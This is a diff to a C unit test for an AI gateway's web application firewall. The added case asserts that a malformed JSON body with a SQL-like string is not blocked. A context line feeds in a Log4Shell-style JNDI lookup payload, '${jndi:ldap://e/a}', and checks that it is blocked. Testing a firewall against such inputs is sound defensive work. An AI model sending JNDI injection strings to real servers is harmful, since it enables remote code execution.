@@ -201,6 +201,9 @@ static void no_json(void **state)
     gw_waf_body body = {.bytes = GW_S("{\"a\":tru}"), .no_json = true};
     assert_int_equal(gw_waf_check_body(waf, &step, &body, &result, NULL), AIGW_OK);
     assert_false(result.block);
+    body.bytes = GW_S("{\"a\":\"select 1 from b where c='d'\",}");
+    assert_int_equal(gw_waf_check_body(waf, &step, &body, &result, NULL), AIGW_OK);
+    assert_false(result.block);
     body.bytes = GW_S("{\"a\":${jndi:ldap://e/a}");
     assert_int_equal(gw_waf_check_body(waf, &step, &body, &result, NULL), AIGW_OK);
     assert_true(result.block && saw(&result, "Log4JRCE_BODY"));
